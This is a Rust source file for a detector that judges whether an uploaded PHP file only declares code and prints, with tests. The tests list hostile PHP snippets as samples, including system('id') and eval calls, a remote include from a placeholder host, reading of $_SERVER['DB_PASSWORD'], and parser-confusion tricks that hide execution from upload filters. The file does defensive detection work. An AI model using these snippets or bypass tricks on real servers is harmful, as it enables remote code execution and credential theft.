//! A source of PHP that does nothing when a server runs it, but declare and print.
//!
//! A file uploaded under a name that servers run is run as it is. A file of classes and
//! functions does nothing then: what stands in their bodies runs when something calls it. So what is outside
//! of bodies is looked at alone, and there only calls that compute and print may stand, and no objects are
//! made.

use std::collections::HashSet;

use memchr::memmem;

use super::{CALLERS, has, is_name, name_len, name_len_from};

/// What may be called outside of bodies, words of the language among them.
const PLAIN: &[&[u8]] = words!("code", "plain-php");

const INCLUDES: &[&[u8]] = &[b"include", b"include_once", b"require", b"require_once"];
/// Words that make an object, run code or reach what the file does not declare.
const WORDS: &[&[u8]] = &[b"new", b"eval", b"__halt_compiler"];
/// What tells about the server.
const SERVER: &[&[u8]] = &[b"$_server", b"$_env", b"$globals", b"$$", b"${"];

/// A source of fewer lines is not a program that is kept in a file.
const LINES_MIN: usize = 4;

/// True if `text` is a source of PHP of several lines that declares, computes and prints when a server runs
/// it, and does nothing else. False for one that PHP's versions read differently.
pub(in crate::detectors) fn is_harmless(text: &[u8]) -> bool {
    memchr::memchr_iter(b'\n', text).take(LINES_MIN).count() == LINES_MIN
        && Reader::read(&text.to_ascii_lowercase(), text).is_some_and(|executed| executed.is_plain())
}

/// What of a source runs when it is asked for.
struct Executed {
    /// Without comments and pages.
    code: Vec<u8>,
    /// What it declares.
    names: HashSet<Vec<u8>>,
    /// It defines constants.
    defines: bool,
}

impl Executed {
    fn is_plain(&self) -> bool {
        let code = &self.code[..];
        !has(code, SERVER)
            && !memchr::memchr_iter(b'(', code).any(|open| !self.is_plain_call(open))
            && words(code).all(|(at, word)| self.is_plain_word(at, word))
            // PHP before 8 calls it by itself.
            && !self.names.contains(&b"__autoload"[..])
            && !aliases_functions(code)
            && !reaches_classes(code)
    }

    /// What stands before the parenthesis at `open` may be called.
    fn is_plain_call(&self, open: usize) -> bool {
        let head = self.code[..open].trim_ascii_end();
        let name = &head[head.len() - name_len(head)..];
        let before = &head[..head.len() - name.len()];
        if name.is_empty() {
            return !matches!(head.last(), Some(b')' | b']' | b'}' | b'\'' | b'"' | b'$'));
        }
        // Objects are those of a program that includes this file: none is made here.
        if before.ends_with(b"->") {
            return true;
        }
        if before.ends_with(b"$") || before.trim_ascii_end().ends_with(b"::") {
            return false;
        }
        // A name that is not read to its beginning.
        let is_whole = !before.last().is_some_and(|b| is_name(*b));
        let is_included = INCLUDES.contains(&name);
        is_whole && (self.is_plain_name(name) || is_included) && self.is_plain_callback(name, open)
    }

    /// It is PHP's own, or one that the file does not declare.
    fn is_plain_name(&self, name: &[u8]) -> bool {
        PLAIN.contains(&name) && !self.names.contains(name)
    }

    /// `array_map('trim', $a)`, `usort($a, function ..)`: a name that may be called, or a function.
    fn is_plain_callback(&self, name: &[u8], open: usize) -> bool {
        let Some((_, number)) = CALLERS.iter().find(|(known, _)| *known == name) else { return true };
        let Some(arguments) = arguments(&self.code[open + 1..]) else { return false };
        // `...$a`: the values are the arguments.
        if arguments.iter().any(|argument| has(argument, &[b"..."])) {
            return false;
        }
        match arguments.get(*number).map_or(&b""[..], |argument| argument.trim_ascii()) {
            [quote @ (b'\'' | b'"'), inner @ ..] => {
                inner.strip_suffix(&[*quote]).is_some_and(|name| self.is_plain_name(name))
            }
            // Without one, `array_filter($a)` asks for the values themselves.
            b"" => *number > 0,
            argument => {
                let argument = argument.strip_prefix(b"static ").unwrap_or(argument).trim_ascii_start();
                let word = &argument[..name_len_from(argument)];
                let rest = argument[word.len()..].trim_ascii_start();
                matches!(word, b"function" | b"fn") && matches!(rest.first(), Some(b'(' | b'&'))
            }
        }
    }

    fn is_plain_word(&self, at: usize, word: &[u8]) -> bool {
        let before = self.code[..at].trim_ascii_end();
        if before.ends_with(b"$") || before.ends_with(b"->") {
            return true;
        }
        if INCLUDES.contains(&word) {
            return self.is_plain_path(&self.code[at + word.len()..]);
        }
        !WORDS.contains(&word)
    }

    /// The path of an include is one of a source beside this one.
    fn is_plain_path(&self, rest: &[u8]) -> bool {
        let Some(end) = memchr::memchr(b';', rest) else { return false };
        let path = rest[..end].trim_ascii_end();
        let path = path.strip_suffix(b")").unwrap_or(path).trim_ascii_end();
        let is_source = path.ends_with(b".php'") || path.ends_with(b".php\"");
        let is_part = |b: &u8| is_name(*b) || b"'\"/.()-, \t\\".contains(b);
        // What a constant holds, another line may say.
        let known = [&b"__dir__"[..], b"__file__", b"dirname"];
        let has_constant = outside_of_texts(path).any(|word| !known.contains(&word));
        is_source && path.iter().all(is_part) && !(has_constant && self.defines)
    }
}

/// `A::B`, but for `A::class`. A constant may be an object: a case of an enum, whose methods run when it is
/// printed, counted or gone through.
fn reaches_classes(code: &[u8]) -> bool {
    memmem::find_iter(code, b"::").any(|at| {
        let name = code[at + 2..].trim_ascii_start();
        &name[..name_len_from(name)] != b"class"
    })
}

/// The arguments of a call, apart; `rest` stands after its parenthesis. `None` if it does not end.
fn arguments(rest: &[u8]) -> Option<Vec<&[u8]>> {
    let (mut arguments, mut start, mut open) = (Vec::new(), 0, 0usize);
    for (at, b) in rest.iter().enumerate().take(ARGUMENTS_BYTES_MAX) {
        match b {
            b'(' | b'[' | b'{' => open += 1,
            b')' if open == 0 => {
                arguments.push(&rest[start..at]);
                return Some(arguments);
            }
            b')' | b']' | b'}' => open = open.checked_sub(1)?,
            b',' if open == 0 => {
                arguments.push(&rest[start..at]);
                start = at + 1;
            }
            _ => {}
        }
    }
    None
}

/// Bytes of a call's arguments that are read, see [`arguments`].
const ARGUMENTS_BYTES_MAX: usize = 2_000;

/// `use function system as trim;`, `use A\{function b as trim};`: a name is not what it says.
fn aliases_functions(code: &[u8]) -> bool {
    words(code).filter(|(_, word)| *word == b"use").any(|(at, _)| {
        let rest = &code[at + 3..];
        // `function () use ($a) {`
        let is_import = !rest.trim_ascii_start().starts_with(b"(");
        let statement = &rest[..memchr::memchr(b';', rest).unwrap_or(rest.len())];
        is_import && has(statement, &[b"function"]) && words(statement).any(|(_, word)| word == b"as")
    })
}

/// Words of `code` and where they are, those in texts among them.
fn words(code: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    let mut at = 0;
    std::iter::from_fn(move || {
        let start = at + code[at..].iter().position(|b| is_name(*b))?;
        let len = code[start..].iter().take_while(|b| is_name(**b)).count();
        at = start + len;
        Some((start, &code[start..at]))
    })
}

/// Words of an expression that are in none of its texts.
fn outside_of_texts(expression: &[u8]) -> impl Iterator<Item = &[u8]> {
    let parts = expression.split(|b| matches!(b, b'\'' | b'"'));
    parts.step_by(2).flat_map(|part| words(part).map(|(_, word)| word))
}

/// Reads a source in small letters.
struct Reader<'t> {
    text: &'t [u8],
    /// As it is written: it distinguishes the names of texts of several lines.
    written: &'t [u8],
    at: usize,
    code: Vec<u8>,
    /// Where the statement begins in `code`.
    statement: usize,
    names: HashSet<Vec<u8>>,
    /// Blocks that are open outside of bodies.
    blocks: usize,
    /// Blocks that are open in a body.
    body: usize,
}

impl<'t> Reader<'t> {
    /// What runs of `text`. `None` if it does not come to an end, or if it depends on PHP's version where
    /// something does.
    fn read(text: &'t [u8], written: &'t [u8]) -> Option<Executed> {
        let code = Vec::with_capacity(text.len());
        let mut reader =
            Reader { text, written, at: 0, code, statement: 0, names: HashSet::new(), blocks: 0, body: 0 };
        reader.page()?;
        while reader.at < text.len() {
            reader.step()?;
        }
        if reader.body > 0 || reader.blocks > 0 {
            return None;
        }
        let defines = words(&reader.code).any(|(_, word)| matches!(word, b"define" | b"const"));
        Some(Executed { code: reader.code, names: reader.names, defines })
    }

    fn rest(&self) -> &'t [u8] {
        &self.text[self.at..]
    }

    /// Up to the next tag.
    fn page(&mut self) -> Option<()> {
        let rest = self.rest();
        let len = memmem::find(rest, b"<?").unwrap_or(rest.len());
        let page = &rest[..len];
        // Tags of older versions.
        if has(page, &[b"<%"]) || has(page, &[b"<script"]) && has(page, &[b"php"]) {
            return None;
        }
        self.at += len;
        self.end_statement();
        match self.rest() {
            [] => {}
            [b'<', b'?', b'=', ..] => {
                self.at += 3;
                self.emit(b"echo ");
            }
            [b'<', b'?', b'p', b'h', b'p', b' ' | b'\t' | b'\n' | b'\r', ..] => self.at += 6,
            _ => return None,
        }
        Some(())
    }

    fn step(&mut self) -> Option<()> {
        let rest = self.rest();
        match rest {
            [b'?', b'>', ..] => {
                self.at += 2;
                self.page()?;
            }
            [b'#', b'[', ..] => self.attribute()?,
            [b'#', ..] | [b'/', b'/', ..] => {
                let end = rest.iter().position(|b| matches!(b, b'\n' | b'\r')).unwrap_or(rest.len());
                self.at += memmem::find(&rest[..end], b"?>").unwrap_or(end);
                self.emit(b" ");
            }
            [b'/', b'*', rest @ ..] => {
                self.at += memmem::find(rest, b"*/")? + 4;
                self.emit(b" ");
            }
            [b'<', b'<', b'<', rest @ ..] => self.document(rest)?,
            [b'\'', inner @ ..] => {
                let len = end_of_text(inner, b'\'')?;
                self.text(b'\'', &inner[..len]);
            }
            [b'"', inner @ ..] => {
                let len = self.double_quoted(inner)?;
                self.text(b'"', &inner[..len]);
            }
            [b'`', ..] => return None,
            [b'{', ..] => self.open(),
            [b'}', ..] => self.close()?,
            [b';', ..] => {
                self.take(1);
                self.end_statement();
            }
            _ => self.take(1),
        }
        Some(())
    }

    fn take(&mut self, len: usize) {
        let bytes = &self.rest()[..len];
        self.at += len;
        self.emit(bytes);
    }

    /// A text, without what is no name or path.
    fn text(&mut self, quote: u8, inner: &[u8]) {
        self.at += inner.len() + 2;
        self.emit(&[quote]);
        if inner.iter().all(|b| is_name(*b) || b"./-:".contains(b)) {
            self.emit(inner);
        }
        self.emit(&[quote]);
    }

    fn emit(&mut self, bytes: &[u8]) {
        if self.body == 0 {
            self.code.extend_from_slice(bytes);
        }
    }

    fn end_statement(&mut self) {
        if self.body == 0 {
            self.code.extend_from_slice(b";");
            self.statement = self.code.len();
        }
    }

    fn open(&mut self) {
        if self.body > 0 {
            self.body += 1;
        } else if let Some(name) = declared(&self.code[self.statement..]) {
            self.names.insert(name.to_vec());
            self.code.truncate(self.statement);
            self.body = 1;
        } else {
            self.blocks += 1;
            self.code.push(b'{');
            self.statement = self.code.len();
        }
        self.at += 1;
    }

    fn close(&mut self) -> Option<()> {
        self.at += 1;
        if self.body > 0 {
            self.body -= 1;
            self.end_statement();
        } else {
            self.blocks = self.blocks.checked_sub(1)?;
            self.code.push(b'}');
            self.statement = self.code.len();
        }
        Some(())
    }

    /// `#[Route('/a')]`, a comment before PHP 8. Both have to be at the same place after it.
    fn attribute(&mut self) -> Option<()> {
        let rest = self.rest();
        let end = rest.iter().position(|b| matches!(b, b'\n' | b'\r')).unwrap_or(rest.len());
        let (mut at, mut open, mut len) = (1, 0usize, None);
        while at < end {
            match rest[at] {
                quote @ (b'\'' | b'"') => {
                    let text = &rest[at + 1..end];
                    let close = memchr::memchr(quote, text)?;
                    if memchr::memchr3(b'\\', b'{', b'$', &text[..close]).is_some() {
                        return None;
                    }
                    at += close + 1;
                }
                b'[' => open += 1,
                b']' => {
                    open = open.checked_sub(1)?;
                    len = len.or((open == 0).then_some(at + 1));
                }
                b'{' | b'}' | b'`' | b'<' | b'#' | b'/' | b'?' => return None,
                _ => {}
            }
            at += 1;
        }
        self.at += len?;
        Some(())
    }

    /// A text between a name and the same name at the beginning of a line.
    fn document(&mut self, rest: &'t [u8]) -> Option<()> {
        let name = rest.trim_ascii_start();
        let quote = name.first().copied().filter(|b| matches!(b, b'\'' | b'"'));
        let name = &name[usize::from(quote.is_some())..];
        let len = name_len_from(name);
        let (name, text) = name.split_at(len);
        let text = if quote.is_some() { text.strip_prefix(&[quote?])? } else { text };
        if name.is_empty() || !matches!(text.first(), Some(b'\n' | b'\r')) {
            return None;
        }
        // From PHP 7.3 on the name may be indented and have something after it.
        let end = memmem::find_iter(text, name).find(|at| {
            let before = text[..*at].iter().rev().find(|b| !matches!(b, b' ' | b'\t'));
            let is_first = matches!(before, Some(b'\n' | b'\r'));
            is_first && !text.get(at + len).is_some_and(|b| is_name(*b))
        })?;
        // In other letters it is another name, and the text goes on.
        let begun = self.text.len() - text.len() - len - usize::from(quote.is_some());
        let ended = self.text.len() - text.len() + end;
        if self.written[begun..begun + len] != self.written[ended..ended + len] {
            return None;
        }
        let rest = &text[end + len..];
        let rest = rest.strip_prefix(b";").unwrap_or(rest);
        if !matches!(text[end - 1], b'\n' | b'\r') || !matches!(rest.first(), Some(b'\n' | b'\r')) {
            return None;
        }
        let inner = &text[..end];
        if quote != Some(b'\'') && !is_plain_text(inner, self.body > 0) {
            return None;
        }
        self.at = self.text.len() - text.len() + end + len;
        self.emit(b"''");
        Some(())
    }

    /// The length of a text in which variables may be.
    fn double_quoted(&self, rest: &[u8]) -> Option<usize> {
        let mut at = 0;
        loop {
            let at_now = at + rest[at..].iter().position(|b| b"\"\\{$".contains(b))?;
            match &rest[at_now..] {
                [b'"', ..] => break is_plain_text(&rest[..at_now], self.body > 0).then_some(at_now),
                [b'\\', ..] => at = at_now + 2,
                [b'{', b'$', ..] => at = at_now + expression_len(&rest[at_now..])?,
                _ => at = at_now + 1,
            }
            if at > rest.len() {
                break None;
            }
        }
    }
}

/// What a text has of expressions calls nothing, or stands in a body.
fn is_plain_text(text: &[u8], is_body: bool) -> bool {
    let calls = |at: usize| match expression_len(&text[at..]) {
        Some(len) => !is_body && memchr::memchr(b'(', &text[at..at + len]).is_some(),
        None => true,
    };
    !has(text, &[b"${"]) && !memmem::find_iter(text, b"{$").any(calls)
}

/// The length of `{$a['b']}`. `None` if it is not as plain as that.
fn expression_len(text: &[u8]) -> Option<usize> {
    let mut at = 1;
    loop {
        match text.get(at)? {
            b'}' => return Some(at + 1),
            b'\'' => at += end_of_text(&text[at + 1..], b'\'')? + 2,
            b'"' | b'{' | b'`' | b'/' | b'#' | b'\\' | b'?' | b'<' => return None,
            _ => at += 1,
        }
    }
}

/// Where a text ends that begins before `rest`.
fn end_of_text(rest: &[u8], quote: u8) -> Option<usize> {
    let mut at = 0;
    loop {
        at += memchr::memchr2(quote, b'\\', rest.get(at..)?)?;
        if rest[at] == quote {
            return Some(at);
        }
        at += 2;
    }
}

/// The name of the class or function that `head` declares, which stands before the block that is its body.
fn declared(head: &[u8]) -> Option<&[u8]> {
    let mut head = head.trim_ascii();
    loop {
        let len = name_len_from(head);
        let (word, rest) = head.split_at(len);
        let rest = rest.trim_ascii_start();
        match word {
            b"abstract" | b"final" | b"readonly" => head = rest,
            b"class" | b"interface" | b"trait" | b"enum" => {
                let is_head = |b: &u8| is_name(*b) || b.is_ascii_whitespace() || b"\\,:".contains(b);
                let name = &rest[..name_len_from(rest)];
                return (!name.is_empty() && rest.iter().all(is_head)).then_some(name);
            }
            b"function" => {
                let rest = rest.strip_prefix(b"&").unwrap_or(rest).trim_ascii_start();
                let (name, rest) = rest.split_at(name_len_from(rest));
                let parameters = rest.trim_ascii_start().strip_prefix(b"(")?;
                let mut open = 1usize;
                let end = parameters.iter().position(|b| {
                    open = open + usize::from(*b == b'(') - usize::from(*b == b')');
                    open == 0
                })?;
                let is_type = |b: &u8| is_name(*b) || b.is_ascii_whitespace() || b"\\:?|&".contains(b);
                return (!name.is_empty() && parameters[end + 1..].iter().all(is_type)).then_some(name);
            }
            _ => return None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(body: &str) -> String {
        format!(
            "<?php\nnamespace App;\n\nfinal class Page extends A implements B\n{{\n    function show($f)\n    {{\n        {body}\n    }}\n}}\n"
        )
    }

    #[test]
    fn bodies_run_when_something_calls_them() {
        for body in [
            "return $this->title . strtoupper($_GET['x'] ?? '');",
            "exec('git describe'); include $f; $x = new $f($f); return base64_decode($x);",
            "return \"{$this->a['b']} }\" . '}' . \"\\\"}\"; // } ' ?",
            "/* } */ # }\n return ['a' => \"it's\", 'b' => \"c\"];",
            "?> <b>{ <?php echo 1; ?> } <?php",
            "$a = <<<END\n } it's {$f}\nEND;\n $b = <<<'END'\n } it's {$f\nEND;\n",
            "#[Pure]\n$f = function () { return 1; };",
        ] {
            assert!(is_harmless(class(body).as_bytes()), "{body}");
        }
    }

    #[test]
    fn what_runs_computes_and_prints() {
        for code in [
            "defined('ABSPATH') || exit;",
            "if (!defined('A')) {\n    die('no');\n}",
            "return ['a' => 'b', 'c' => ['d', 1]];",
            "define('A', dirname(__FILE__));",
            "require_once __DIR__ . '/../a.php';\ninclude('b.php');",
            "require_once ABSPATH . WPINC . '/a.php';",
            "if (!function_exists('f')) {\n    function f($a = array()) { system($a); }\n}",
            "foreach ($this->rows as $row) : ?>\n<li><?= htmlspecialchars($row->title()) ?></li>\n<?php endforeach;",
            "$a = array_map('trim', explode(',', $list));\nusort($a, function ($a, $b) { return $a <=> $b; });",
            "use function A\\b;\nuse A\\B as C;",
            "$lang['a'] = 'Options (system(), new): {$b}';\n$lang['c'] = \"it's {$d['e']}\";",
        ] {
            let text = format!("<?php\n\n\n\n{code}\n");
            assert!(is_harmless(text.as_bytes()), "{code}");
        }
    }

    #[test]
    fn what_runs_and_does_more_is_not_harmless() {
        for code in [
            "system('id');",
            "$f('id');",
            "\\system('id');",
            "A::b();",
            "FFI::cdef('int system(char *);')->system('id');",
            "(new PDO('sqlite:a.php'))->exec($x);",
            "$x = new SplFileObject('a.php', 'w');",
            "use function system as trim;\ntrim('id');",
            "use function A\\{b, system as trim};\ntrim('id');",
            "namespace A;\nfunction trim($x) { system($x); }\ntrim('id');",
            "class A { function __construct() { system('id'); } }\nnew A;",
            "class A { static function b() { system('id'); } }\nA::b();",
            "function f() { system('id'); }\narray_map('f', [1]);",
            "function f() { system('id'); }\nregister_shutdown_function('f');",
            "array_map('system', ['id']);",
            "array_map('sys' . 'tem', ['id']);",
            "usort($a, $f);",
            "$f = function () { system('id'); };",
            "echo \"{$f('id')}\";",
            "echo \"${f('id')}\";",
            "echo <<<END\n{$f('id')}\nEND;\n",
            "include 'http://a.example/x.php';",
            "include $f . '.php';",
            "include 'x.jpg';",
            "define('HERE', 'ht' . 'tp://a');\ninclude HERE . '/x.php';",
            "echo $_SERVER['DB_PASSWORD'];",
            "error_log('<?php', 3, 'a.php');",
            "echo `id`;",
            "$a->{$f}('id'); ('sys' . 'tem')('id'); [$a, 'b'](1);",
            "eval($x);",
            "eval /* */ ($x);",
            // Code that looks as if it were a text, a comment or a body, and the other way round.
            "$a = 'x\\\\'; system('id'); //';",
            "// ?><?php system('id');",
            "# ?><?php system('id');",
            "#[A] system('id');",
            "#['\nsystem('id'); //'",
            "$a = <<<END\nEND\n; system('id'); $b = <<<END\nEND;\n",
            "$a = <<<END\n  END; system('id'); <<<END\nEND;\n",
            "class A { const B = \"\\\"}\"; } system('id');",
            "function f() { ?> } <?php system('id'); } ",
            "if (1) { system('id'); }",
            "namespace A { system('id'); }",
            "$x = function f() { system('id'); };",
            "?><script language=\"php\">system('id');</script><?php",
            "?><% system('id'); %><?php",
            "?><? system('id'); ?><?php",
            "function __autoload($c) { system('id'); }\nA::B;",
            "$a = <<<END\nend;\n$b = '\nEND;\nsystem(1);\n//';",
            "$a = <<<'END'\nend;\n$b = '\nEND;\nsystem(1);\n//';",
            "enum A { case B; function run() { system('id'); } }\nA::B->run();",
            "enum A implements JsonSerializable { case B; function jsonSerialize(): mixed { system('id'); } }\necho json_encode(A::B);",
            "enum A { case B; }\nforeach (A::B as $x) { echo 1; }",
            "define('X', A :: B);",
            "const FNX = 'system';\narray_map(FNX, ['id']);",
            "const STATICX = 'system';\narray_map(STATICX, ['id']);",
            "$a = [['id'], 'system'];\narray_filter(...$a);",
            "usort(...$a);",
            "array_filter([1, 'trim', 'x'], 'system');",
            "array_filter([1, fn() => 1, 2], 'system');",
            "namespace A { use function system as trim;\ntrim('id'); }",
            "namespace A; { use B\\{function system as trim};\ntrim('id'); }",
            "include 'x.inc';",
            "class A {",
            "}",
        ] {
            let text = format!("<?php\n\n\n\n{code}\n");
            let is_body = code.starts_with("function f() { ?> }");
            assert_eq!(is_harmless(text.as_bytes()), is_body, "{code}");
        }
        let far = format!("<?php\n\n\n\narray_filter([{}], 'system');\n", "'a', ".repeat(1_000));
        assert!(!is_harmless(far.as_bytes()));
        assert!(!is_harmless(b"<?php echo 1;"));
    }

    /// A long source takes time in proportion.
    #[test]
    fn hostile_sources() {
        for unit in [
            "(",
            "{",
            "}",
            "'",
            "\"{$",
            "<<<a\n",
            "#[",
            "/*",
            "?><?php ",
            "include ",
            "a(",
            "<?php class a{",
            "use ",
        ] {
            is_harmless(format!("<?php \n\n\n\n{}", unit.repeat(60_000 / unit.len())).as_bytes());
        }
    }
}
